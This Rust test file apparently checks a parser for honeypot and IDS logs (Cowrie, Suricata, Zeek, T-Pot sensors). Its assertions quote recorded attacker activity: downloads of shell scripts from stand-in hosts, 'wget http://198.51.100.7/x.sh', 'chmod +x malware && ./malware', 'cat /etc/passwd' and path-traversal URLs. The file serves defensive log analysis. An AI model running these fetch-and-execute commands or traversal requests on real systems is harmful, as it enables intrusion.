//! Every format on its fixture file (gzip too), auto-detection, and bad records amid good
//! ones.

use std::io::Write;

use vigil_features::{
    AppProto, EventKind, Format, ParseOutcome, Transport, parse_file, parse_lines, parse_str,
};

use crate::fixture;

fn parse(format: Format, name: &str) -> ParseOutcome {
    let out = parse_file(format, fixture(&format!("events/{name}"))).unwrap();
    assert!(out.rejected.is_empty(), "{name}: {:?}", out.rejected);
    out
}

fn kinds(out: &ParseOutcome) -> Vec<EventKind> {
    out.events.iter().map(|e| e.kind).collect()
}

#[test]
fn cowrie_fixture() {
    use EventKind::*;
    let out = parse(Format::Cowrie, "cowrie.json");
    assert_eq!(
        kinds(&out),
        [
            SessionConnect,
            ClientVersion,
            LoginFailed,
            LoginFailed,
            LoginSuccess,
            Command,
            Command,
            FileDownload,
            CommandFailed,
            ForwardRequest,
            ForwardData,
            Other,
            SessionClosed,
            SessionConnect,
            SessionClosed
        ]
    );
    let e = &out.events;
    assert_eq!(e[1].client.as_deref(), Some("SSH-2.0-libssh2_1.4.3"));
    assert_eq!(e[7].url.as_deref(), Some("http://evil-update.example.net/x.sh"));
    assert_eq!(
        (e[10].method.as_deref(), e[10].url.as_deref()),
        (Some("GET"), Some("http://www.example.com/bins.sh"))
    );
    assert_eq!(e[11].event_id.as_deref(), Some("cowrie.log.closed"));
    assert_eq!((e[13].app_proto, e[14].app_proto), (AppProto::Telnet, AppProto::Telnet));
    assert_eq!(e[12].duration, Some(9.244_231));
}

#[test]
fn suricata_fixture() {
    use EventKind::*;
    let out = parse(Format::Suricata, "suricata_eve.json");
    assert_eq!(kinds(&out), [IdsAlert, Flow, HttpRequest, ClientVersion, Other]);
    assert_eq!(out.skipped, 1);
    assert_eq!(
        (out.events[1].bytes_out, out.events[1].bytes_in, out.events[1].duration),
        (Some(2210), Some(3403), Some(2.5))
    );
    assert_eq!(out.events[4].transport, Transport::Udp);
}

#[test]
fn ingest_fixtures() {
    let out = parse(Format::Ingest, "ingest_envelope.json");
    assert_eq!(kinds(&out), [EventKind::LoginFailed, EventKind::Command]);
    assert!(out.events.iter().all(|e| e.sensor.as_deref() == Some("demo-honeypot")));
    assert_eq!(out.events[1].command.as_deref(), Some("cat /etc/passwd"));

    let out = parse(Format::Ingest, "ingest_list.json");
    assert_eq!(
        kinds(&out),
        [
            EventKind::LoginFailed,
            EventKind::HttpRequest,
            EventKind::IdsAlert,
            EventKind::Command,
            EventKind::Command
        ]
    );
    assert_eq!(out.events[1].status, Some(200));
    assert_eq!(out.events[4].command.as_deref(), Some("chmod +x malware && ./malware"));
}

#[test]
fn web_and_generic_fixtures() {
    use EventKind::*;
    let out = parse(Format::Web, "web.jsonl");
    assert_eq!(out.events.len(), 4);
    assert!(out.events.iter().all(|e| e.kind == HttpRequest && e.app_proto == AppProto::Http));
    assert_eq!(out.events[2].method.as_deref(), Some("GET"));

    let out = parse(Format::Jsonl, "generic.jsonl");
    assert_eq!(
        kinds(&out),
        [SessionConnect, LoginFailed, LoginSuccess, Command, Flow, IdsAlert, Other]
    );
    // Three time notations, one clock.
    let secs: Vec<i64> = out.events.iter().map(|e| e.timestamp.as_micros() / 1_000_000).collect();
    assert_eq!(
        secs,
        [
            1_525_628_645,
            1_525_628_646,
            1_525_628_647,
            1_525_628_648,
            1_525_628_649,
            1_525_628_650,
            1_525_628_651
        ]
    );
    // Writing the events back gives lines that parse to the same events.
    let text: String =
        out.events.iter().map(|e| serde_json::to_string(e).unwrap() + "\n").collect();
    assert_eq!(parse_str(Format::Jsonl, &text).events, out.events);
}

#[test]
fn auto_detects_every_fixture() {
    for (name, format) in [
        ("cowrie.json", Format::Cowrie),
        ("suricata_eve.json", Format::Suricata),
        ("ingest_envelope.json", Format::Ingest),
        ("ingest_list.json", Format::Ingest),
        ("web.jsonl", Format::Web),
        ("generic.jsonl", Format::Jsonl),
        ("zeek.log", Format::Zeek),
        ("zeek.json", Format::Zeek),
        ("tanner.json", Format::Tanner),
        ("heralding.json", Format::Heralding),
        ("elasticpot.json", Format::Elasticpot),
        ("adbhoney.json", Format::Adbhoney),
    ] {
        let auto = parse(Format::Auto, name);
        assert_eq!(auto.format, format, "{name}");
        assert_eq!(auto.events, parse(format, name).events, "{name}");
    }
}

#[test]
fn gzip_is_detected_by_magic_bytes() {
    let plain = std::fs::read(fixture("events/cowrie.json")).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("cowrie.json.anything");
    let mut gz = flate2::write::GzEncoder::new(
        std::fs::File::create(&path).unwrap(),
        flate2::Compression::fast(),
    );
    gz.write_all(&plain).unwrap();
    gz.finish().unwrap();
    assert_eq!(parse_file(Format::Cowrie, &path).unwrap(), parse(Format::Cowrie, "cowrie.json"));
    let e = parse_file(Format::Cowrie, dir.path().join("missing.json")).unwrap_err().to_string();
    assert!(e.starts_with("cannot read ") && e.contains("missing.json"), "{e}");
}

#[test]
fn bad_lines_are_reported_with_line_and_reason_and_the_rest_parses() {
    // The same pattern for every line format: good, bad, good, bad, blank, good.
    let cases = [
        (
            Format::Cowrie,
            r#"{"eventid":"cowrie.login.failed","timestamp":"2018-05-06T17:44:05Z","src_ip":"192.0.2.1"}"#,
            r#"{"eventid":"cowrie.login.failed","timestamp":"2018-05-06T17:44:05Z","src_ip":"not-an-ip"}"#,
            "invalid src_ip \"not-an-ip\"",
        ),
        (
            Format::Suricata,
            r#"{"timestamp":"2017-07-07T15:30:00+0000","event_type":"flow","src_ip":"192.0.2.1"}"#,
            r#"{"timestamp":"2017-07-07T15:30:00","event_type":"flow","src_ip":"192.0.2.1"}"#,
            "invalid timestamp \"2017-07-07T15:30:00\": failed to find offset component, which is required for parsing a timestamp",
        ),
        (
            Format::Web,
            r#"{"timestamp":1757821729,"src_ip":"192.0.2.1","path":"/"}"#,
            r#"{"timestamp":1757821729,"src_ip":"192.0.2.1","path":"/","dst_port":-1}"#,
            "-1 is not an integer in 0..=65535",
        ),
        (
            Format::Jsonl,
            r#"{"timestamp":1757821729,"src_ip":"192.0.2.1","kind":"flow"}"#,
            r#"{"timestamp":1757821729,"src_ip":"192.0.2.1"}"#,
            "missing kind",
        ),
        (
            Format::Ingest,
            r#"{"eventid":"cowrie.login.failed","timestamp":1757821729,"src_ip":"192.0.2.1"}"#,
            r#"{"eventid":"cowrie.login.failed","src_ip":"192.0.2.1"}"#,
            "missing timestamp",
        ),
    ];
    for (format, good, bad, reason) in cases {
        let text = format!("{good}\n{bad}\n{good}\n{{\"unterminated\n\n{good}\n");
        let out = parse_str(format, &text);
        assert_eq!(out.events.len(), 3, "{format}");
        assert_eq!(out.rejected.len(), 2, "{format}: {:?}", out.rejected);
        assert_eq!(
            (out.rejected[0].line, out.rejected[0].reason.as_str()),
            (2, reason),
            "{format}"
        );
        assert_eq!(out.rejected[1].line, 4, "{format}");
        assert!(
            out.rejected[1].reason.starts_with("invalid JSON: "),
            "{format}: {}",
            out.rejected[1]
        );
    }
}

#[test]
fn readers_and_strings_agree_and_invalid_utf8_is_one_bad_line() {
    let text = std::fs::read(fixture("events/cowrie.json")).unwrap();
    let mut with_garbage = text.clone();
    with_garbage
        .extend_from_slice(b"{\"eventid\":\"cowrie.login.failed\",\"src_ip\":\"\xff\xfe\"}\n");
    let out = parse_lines(Format::Cowrie, &with_garbage[..]).unwrap();
    assert_eq!(out.events, parse_str(Format::Cowrie, std::str::from_utf8(&text).unwrap()).events);
    assert_eq!(out.rejected.len(), 1);
    assert_eq!(out.rejected[0].line, 16);
    assert!(
        out.rejected[0].reason.contains("invalid unicode")
            || out.rejected[0].reason.contains("UTF-8"),
        "{}",
        out.rejected[0]
    );
}

#[test]
fn zeek_ascii_fixture() {
    use EventKind::*;
    let out = parse(Format::Zeek, "zeek.log");
    // The notice about no connection (capture loss) has no source: skipped, not rejected.
    assert_eq!(out.skipped, 1);
    assert_eq!(
        kinds(&out),
        [
            Flow,
            Flow,
            Flow,
            Flow,
            Flow,
            LoginFailed,
            LoginSuccess,
            ClientVersion,
            HttpRequest,
            IdsAlert
        ]
    );
    let e = &out.events;
    assert_eq!(e[0].conn_state.as_deref(), Some("S0"));
    // IP-level bytes: a lone SYN is 44 bytes.
    assert_eq!((e[0].duration, e[0].bytes_out, e[0].packets_out), (None, Some(44), Some(1)));
    assert_eq!(e[1].conn_state.as_deref(), Some("REJ"));
    assert_eq!((e[1].packets_out, e[1].packets_in), (Some(1), Some(1)));
    assert_eq!(
        (e[2].app_proto, e[2].bytes_out, e[2].bytes_in),
        (AppProto::Tls, Some(1016), Some(1226))
    );
    assert_eq!((e[3].transport, e[3].app_proto), (Transport::Udp, AppProto::Dns));
    assert_eq!((e[4].transport, e[4].src_ip.to_string()), (Transport::Icmp, "2001:db8::5".into()));
    assert_eq!(e[5].client.as_deref(), Some("SSH-2.0-Go"));
    assert_eq!(e[7].client.as_deref(), Some("SSH-2.0-\u{16}\u{3}evil\ttab"));
    assert_eq!(
        (e[8].method.as_deref(), e[8].url.as_deref(), e[8].status, e[8].bytes_in),
        (Some("GET"), Some("/cgi-bin/../../etc/passwd"), Some(404), Some(512))
    );
    assert_eq!(e[8].client.as_deref(), Some("Mozilla/5.0 (compatible; scanner)"));
    // A scan notice names its source in `src`.
    assert_eq!(e[9].src_ip.to_string(), "203.0.113.9");
    assert_eq!(e[9].signature.as_deref(), Some("Scan::Port_Scan"));
}

#[test]
fn zeek_json_fixture() {
    use EventKind::*;
    let out = parse(Format::Zeek, "zeek.json");
    assert_eq!(kinds(&out), [Flow, Other, Other, LoginFailed, Other, FileDownload]);
    let e = &out.events;
    assert_eq!(e[0].conn_state.as_deref(), Some("S0"));
    assert_eq!(e[0].timestamp.as_micros(), 1_764_892_900_250_000);
    assert_eq!(e[1].timestamp.to_string(), "2025-12-05T00:01:41.5Z");
    assert_eq!(
        (e[1].event_id.as_deref(), e[1].dst_host.as_deref(), e[1].answer.as_deref()),
        (Some("zeek.dns"), Some("updates.example.org"), Some("cdn.example.net,198.51.100.30"))
    );
    assert_eq!(
        (e[2].app_proto, e[2].dst_host.as_deref()),
        (AppProto::Tls, Some("updates.example.org"))
    );
    assert_eq!(e[4].signature.as_deref(), Some("DNS_Conn_count_too_large"));
    // A download belongs to its receiver.
    assert_eq!(e[5].src_ip.to_string(), "192.0.2.10");
    assert_eq!((e[5].url.as_deref(), e[5].bytes_in), (Some("setup.exe"), Some(73802)));
}

#[test]
fn zeek_ascii_and_json_forms_of_a_record_agree() {
    let ascii = "#separator \\x09\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\t\
                 proto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\torig_pkts\tresp_pkts\n\
                 1764892800.250000\tC1\t192.0.2.7\t40000\t192.0.2.10\t22\ttcp\tssh\t3.5\t900\t1200\tSF\t12\t10\n";
    let json = r#"{"ts":1764892800.25,"uid":"C1","id.orig_h":"192.0.2.7","id.orig_p":40000,"id.resp_h":"192.0.2.10","id.resp_p":22,"proto":"tcp","service":"ssh","duration":3.5,"orig_bytes":900,"resp_bytes":1200,"conn_state":"SF","orig_pkts":12,"resp_pkts":10}"#;
    let (a, j) = (parse_str(Format::Zeek, ascii), parse_str(Format::Zeek, json));
    assert!(a.rejected.is_empty() && j.rejected.is_empty(), "{:?} {:?}", a.rejected, j.rejected);
    assert_eq!(a.events, j.events);
    assert_eq!(a.events[0].app_proto, AppProto::Ssh);
}

#[test]
fn zeek_headers_are_read_and_bad_records_say_why() {
    // Another separator and set separator, declared by the headers.
    let text = "#separator |\n#set_separator|;\n#unset_field|NONE\n#path|dns\n\
                #fields|ts|uid|id.orig_h|id.orig_p|id.resp_h|id.resp_p|query|answers\n\
                1764892800|D1|192.0.2.7|5353|192.0.2.1|53|example.org|a.example;192.0.2.99\n\
                1764892801|D2|192.0.2.7|5353|192.0.2.1|53|NONE|NONE\n";
    let out = parse_str(Format::Zeek, text);
    assert!(out.rejected.is_empty(), "{:?}", out.rejected);
    assert_eq!(out.events[0].answer.as_deref(), Some("a.example,192.0.2.99"));
    assert_eq!((out.events[1].dst_host.as_deref(), out.events[1].answer.as_deref()), (None, None));

    let conn_header =
        "#separator \\x09\n#path\tconn\n#fields\tts\tid.orig_h\tid.orig_p\torig_bytes\n";
    let bad = format!(
        "1764892800\t192.0.2.7\t1\t2\n{conn_header}1764892800\t192.0.2.7\t1\n\
         1764892800\tnot-an-ip\t1\t2\n1764892800\t192.0.2.7\t70000\t2\n\
         1764892800\t192.0.2.7\t1\tmany\nyesterday\t192.0.2.7\t1\t2\n\
         1764892800\t192.0.2.7\t1\t2\n#path\tx509\n1764892800\t192.0.2.7\t1\t2\n\
         {{\"_path\":\"dhcp\",\"ts\":1}}\n{{\"ts\":1,\"id.orig_h\":\"192.0.2.7\"}}\n"
    );
    let out = parse_str(Format::Zeek, &bad);
    assert_eq!(out.events.len(), 1, "{:?}", out.rejected);
    let reasons: Vec<(usize, &str)> =
        out.rejected.iter().map(|r| (r.line, r.reason.as_str())).collect();
    let expect = [
        (1, "before any #fields header"),
        (5, "3 columns where the #fields header names 4"),
        (6, "invalid id.orig_h \"not-an-ip\""),
        (7, "invalid id.orig_p \"70000\""),
        (8, "invalid orig_bytes \"many\""),
        (9, "invalid ts"),
        (12, "Zeek log \"x509\" is not read"),
        (13, "Zeek log \"dhcp\" is not read"),
        (14, "no known log type"),
    ];
    assert_eq!(reasons.len(), expect.len(), "{reasons:?}");
    for ((line, reason), (want_line, want)) in reasons.iter().zip(expect) {
        assert_eq!(*line, want_line, "{reason}");
        assert!(reason.contains(want), "line {line}: {reason:?} lacks {want:?}");
    }
}

#[test]
fn tpot_tanner_fixture() {
    let out = parse(Format::Tanner, "tanner.json");
    assert_eq!(out.naive_times, 3, "every Tanner time lacks an offset");
    let e = &out.events;
    assert!(e.iter().all(|e| e.kind == EventKind::HttpRequest));
    assert_eq!(e[0].timestamp.to_string(), "2026-11-30T08:15:01.25Z");
    assert_eq!(e[0].src_ip.to_string(), "203.0.113.15");
    assert_eq!(
        (e[0].method.as_deref(), e[0].url.as_deref(), e[0].status),
        (Some("GET"), Some("/index.php?page=../../etc/passwd"), Some(200))
    );
    assert_eq!(
        (e[0].client.as_deref(), e[0].dst_host.as_deref()),
        (Some("curl/7.64.0"), Some("192.0.2.80"))
    );
    assert_eq!(
        (e[0].signature.as_deref(), e[0].category.as_deref()),
        (Some("lfi"), Some("tanner type 2"))
    );
    assert_eq!(e[0].session.as_deref(), Some("a1b2c3d4-0000-4000-8000-00000000000a"));
    assert_eq!((e[1].method.as_deref(), e[1].client.as_deref()), (Some("GET"), None));
    // Python's escape of an undecodable byte is read as U+FFFD, not rejected.
    assert_eq!(e[2].url.as_deref(), Some("/a\u{fffd}b"));
}

#[test]
fn tpot_heralding_fixture() {
    use EventKind::*;
    let out = parse(Format::Heralding, "heralding.json");
    // A session: connect, one failed login per attempt, close (only when it ended).
    assert_eq!(
        kinds(&out),
        [SessionConnect, LoginFailed, LoginFailed, SessionClosed, SessionConnect, LoginFailed]
    );
    let e = &out.events;
    assert_eq!(out.naive_times, 6);
    assert_eq!(e[0].timestamp.to_string(), "2026-11-30T09:00:00.5Z");
    assert_eq!((e[0].app_proto, e[0].dst_port), (AppProto::Other, Some(5900)));
    assert_eq!((e[1].username.as_deref(), e[1].password.as_deref()), (None, Some("123456")));
    assert_eq!(e[2].timestamp.to_string(), "2026-11-30T09:00:02Z");
    assert_eq!(
        (e[3].timestamp.to_string().as_str(), e[3].duration),
        ("2026-11-30T09:00:03.5Z", Some(3.0))
    );
    assert!(e[..4].iter().all(|x| x.session == e[0].session));
    assert_eq!(
        (e[5].username.as_deref(), e[5].password.as_deref()),
        (Some("admin"), Some("admin"))
    );
}

#[test]
fn tpot_elasticpot_and_adbhoney_fixtures() {
    use EventKind::*;
    let out = parse(Format::Elasticpot, "elasticpot.json");
    let e = &out.events;
    assert_eq!(
        (e[0].method.as_deref(), e[0].url.as_deref()),
        (Some("POST"), Some("/_search?source"))
    );
    assert!(e[0].command.as_deref().unwrap().contains("wget http://198.51.100.7/x.sh"));
    assert_eq!((e[0].dst_port, e[1].command.as_deref()), (Some(9200), None));
    let out = parse(Format::Adbhoney, "adbhoney.json");
    assert_eq!(kinds(&out), [SessionConnect, Command, FileUpload, SessionClosed]);
    assert_eq!(out.naive_times, 0);
    let e = &out.events;
    assert_eq!(e[0].dst_port, Some(5555));
    assert!(e[1].command.as_deref().unwrap().starts_with("cd /data/local/tmp"));
    assert_eq!(
        (e[2].url.as_deref(), e[2].signature.as_deref()),
        (Some("ufo.apk"), Some("0f343b0931126a20f133d67c2b018a3b"))
    );
    assert_eq!(e[3].duration, Some(3.1));
}

#[test]
fn tpot_bad_records_say_why() {
    let cases = [
        (
            Format::Tanner,
            r#"{"method":"GET","path":"/","peer":{"ip":"x"},"timestamp":"2026-11-30T08:00:00"}"#,
            "invalid peer.ip \"x\"",
        ),
        (
            Format::Tanner,
            r#"{"method":"GET","path":"/","peer":{"ip":"192.0.2.1"},"timestamp":"noon"}"#,
            "invalid timestamp \"noon\"",
        ),
        (
            Format::Heralding,
            r#"{"timestamp":"2026-11-30 09:00:00","source_ip":"192.0.2.1","auth_attempts":[{"timestamp":"later"}]}"#,
            "auth_attempts[0]: invalid timestamp",
        ),
        (
            Format::Elasticpot,
            r#"{"timestamp":"2026-11-30T10:00:00","src_ip":"192.0.2.1"}"#,
            "missing honeypot",
        ),
        (
            Format::Adbhoney,
            r#"{"timestamp":"2026-11-30T10:00:00Z","src_ip":"192.0.2.1"}"#,
            "missing eventid",
        ),
    ];
    for (format, line, want) in cases {
        let out = parse_str(format, line);
        assert!(out.events.is_empty(), "{format}: {line}");
        assert!(
            out.rejected[0].reason.contains(want),
            "{format}: {:?} lacks {want:?}",
            out.rejected[0].reason
        );
    }
}
